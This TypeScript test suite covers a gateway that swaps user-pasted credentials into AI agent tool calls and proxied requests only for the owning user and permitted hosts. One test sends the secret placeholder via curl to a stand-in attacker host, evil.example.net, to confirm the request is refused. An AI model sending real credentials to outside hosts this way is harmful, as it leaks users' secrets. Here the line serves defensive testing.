/**
 * A credential an end user pasted to the model, used later through the other
 * doors: the tool door swaps `<<SECRET_…>>` in tool arguments for that user only
 * and only for an upstream whose `secretHosts` the secret covers; the network
 * door swaps it for the user named by `Bastion-User` on the secret's hosts only.
 * Everything else (another user, no user, a host the secret does not belong to)
 * is refused and audited.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, before, test } from 'node:test';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { badUpstreamYaml, curlRaw, EGRESS_KEY, startHttpsOrigins, type Origin, type TestEgress } from '../helpers/egress.ts';
import { pasteToModel, startModelDoor, type TestModelDoor } from '../helpers/model-door.ts';

const GH_TOKEN = 'ghp_' + 'P4st3dT0k3n'.repeat(3) + 'abc';

let door: TestModelDoor;
let github: Origin;
let evil: Origin;
let bastion: TestEgress;
let ph: string;

before(async () => {
  const { origins, upstreamCa } = await startHttpsOrigins(['api.github.com', 'evil.example.net']);
  [github, evil] = origins;
  door = await startModelDoor(
    (providerUrl) => `version: 1
store: { sqlite: ./bastion.db }
egress:
  intercept: all
  staticHosts: { api.github.com: [127.0.0.1], evil.example.net: [127.0.0.1] }
upstreams:
  gh: ${badUpstreamYaml(['api.github.com'])}
  plain: ${badUpstreamYaml()}
  slack: ${badUpstreamYaml(['slack.com'])}
agents:
  support:
    keys: [env:EGRESS_KEY]
    tools: ["gh__*", "plain__*", "slack__*"]
    model: { provider: openai, baseUrl: "${providerUrl}/v1" }
    network: ["api.github.com:${github.port}", "evil.example.net:${evil.port}"]
    unsafeAllowPrivate: { ranges: [127.0.0.1/32] }
`,
    { egress: { upstreamCa } },
  );
  bastion = door.bastion;
  // The user pastes a token to the model; the placeholder is what the model (and so the agent) holds.
  ph = (await pasteToModel(bastion, 'alice', `use ${GH_TOKEN}`)).placeholder as string;
  assert.ok(ph);
});

after(async () => {
  await door?.close();
  await github?.close();
  await evil?.close();
});

async function mcp(user: string | undefined): Promise<Client> {
  const client = new Client({ name: 'placeholder-test', version: '1.0.0' });
  const headers: Record<string, string> = { Authorization: `Bearer ${EGRESS_KEY}` };
  if (user !== undefined) headers['Bastion-User'] = user;
  await client.connect(new StreamableHTTPClientTransport(bastion.running.url, { requestInit: { headers } }));
  return client;
}

function textOf(r: unknown): string {
  return ((r as { content: { text: string }[] }).content[0]?.text ?? '') as string;
}

test('tool door: the owner\'s placeholder reaches an upstream on the secret\'s hosts as the value; the echo comes back redacted', async () => {
  const alice = await mcp('alice');
  try {
    const fp = await alice.callTool({ name: 'gh__fingerprint', arguments: { text: `Bearer ${ph}` } });
    assert.equal(textOf(fp), createHash('sha256').update(`Bearer ${GH_TOKEN}`).digest('hex'), 'the upstream received the value');
    const echoed = await alice.callTool({ name: 'gh__echo_any', arguments: { text: ph } });
    assert.ok(!textOf(echoed).includes(GH_TOKEN));
    assert.match(textOf(echoed), /REDACTED/);
  } finally {
    await alice.close();
  }
});

test('tool door: another user, no user, an upstream without secretHosts or on other hosts, and an unknown placeholder are refused', async () => {
  const cases: [string | undefined, string, string, string][] = [
    ['bob', 'gh__fingerprint', ph, 'release.foreign_user'],
    [undefined, 'gh__fingerprint', ph, 'release.foreign_user'],
    ['alice', 'plain__fingerprint', ph, 'release.foreign_host'],
    ['alice', 'slack__fingerprint', ph, 'release.foreign_host'],
    ['alice', 'gh__fingerprint', '<<SECRET_aaaaaaaaaaaa>>', 'placeholder.unknown'],
  ];
  for (const [user, tool, text, reason] of cases) {
    const c = await mcp(user);
    try {
      const r = (await c.callTool({ name: tool, arguments: { text } })) as { isError?: boolean; _meta?: Record<string, { code: string }> };
      assert.equal(r.isError, true, `${user} ${tool}`);
      assert.equal(r._meta?.['bastion/error']?.code, 'ERR_PLACEHOLDER_DENIED');
    } finally {
      await c.close();
    }
    await bastion.gateway.audit.flush();
    const last = (await bastion.gateway.store.readAudit(1, 100_000)).filter((x) => x.method === 'tools/call').at(-1)!;
    assert.equal(last.decision.reason, reason, `${user} ${tool}`);
  }
});

test('network door: swapped for the user named by Bastion-User on the secret\'s hosts only', async () => {
  const proxy = `http://agent:${EGRESS_KEY}@127.0.0.1:${bastion.proxyUrl.port}`;
  const before = github.received.length;
  const ok = await curlRaw(['-x', proxy, '--cacert', bastion.caFile, '-H', `Authorization: Bearer ${ph}`, '-H', 'Bastion-User: alice', `https://api.github.com:${github.port}/echo`]);
  assert.match(ok, /^HTTP\/1\.1 200 Connection Established\r\n\r\nHTTP\/1\.1 200 /);
  const got = github.received[before]!;
  assert.equal(got.headers.authorization, `Bearer ${GH_TOKEN}`);
  assert.equal(got.headers['bastion-user'], undefined, 'the user header is not forwarded');
  assert.ok(!ok.includes(GH_TOKEN), 'the echo comes back redacted');

  for (const [headers, host, reason] of [
    [['-H', 'Bastion-User: bob'], `api.github.com:${github.port}`, 'release.foreign_user'],
    [[], `api.github.com:${github.port}`, 'release.foreign_user'],
    [['-H', 'Bastion-User: alice'], `evil.example.net:${evil.port}`, 'release.foreign_host'],
  ] as const) {
    const out = await curlRaw(['-x', proxy, '--cacert', bastion.caFile, '-H', `Authorization: Bearer ${ph}`, ...headers, `https://${host}/echo`]);
    assert.match(out, /\r\n\r\nHTTP\/1\.1 403 /, `${reason}: ${out.slice(0, 200)}`);
    assert.match(out, new RegExp(reason.replace('.', '\\.')));
  }
  assert.equal(evil.received.length, 0);
});
